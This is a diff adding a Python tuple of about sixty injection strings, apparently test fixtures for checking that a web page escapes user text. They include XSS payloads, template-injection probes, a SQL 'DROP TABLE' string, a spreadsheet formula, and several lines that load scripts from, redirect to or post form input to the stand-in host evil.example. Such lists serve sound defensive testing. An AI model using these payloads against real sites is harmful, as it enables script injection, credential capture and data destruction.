@@ -1,0 +1,28 @@
+"""Sixty texts that would run, break out or mislead if a page ever took them for anything but text."""
+
+PAYLOADS = (
+    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "</script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>", "<IMG SRC=\"javascript:alert('x')\">", "<img src=x:x onerror=alert`1`>",
+    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>",
+    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<a href=javascript:alert(1)>x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "\"><script>alert(1)</script>",
+    "'><img src=x onerror=alert(1)>", "\" autofocus onfocus=alert(1) x=\"", "`-alert(1)-`",
+    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</option><script>alert(1)</script>",
+    "</select><img src=x onerror=alert(1)>", "</style><script>alert(1)</script>",
+    "<style>@import'//evil.example'</style>",
+    "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<base href=//evil.example/>", "<form action=//evil.example><input name=pin>", "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
+    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
+    "<math><mtext></p><script>alert(1)</script>",
+    "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><x/>",
+    "{{ 7 * 7 }}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "${7*7}", "#{7*7}",
+    "<%= 7*7 %>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E",
+    "javascript:alert(1)//", "\\\"><script>alert(1)</script>", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "＜script＞alert(1)＜/script＞", "<hx hx-get=/sell hx-trigger=load>", "<div hx-on:load='alert(1)'>",
+    "<div hx-swap-oob='true' id='cart'>gone</div>", "\"}' hx-vals='{\"x\": \"", "=HYPERLINK(\"//evil.example\")",
+    "'; DROP TABLE sale; --",
+)  # fmt: skip
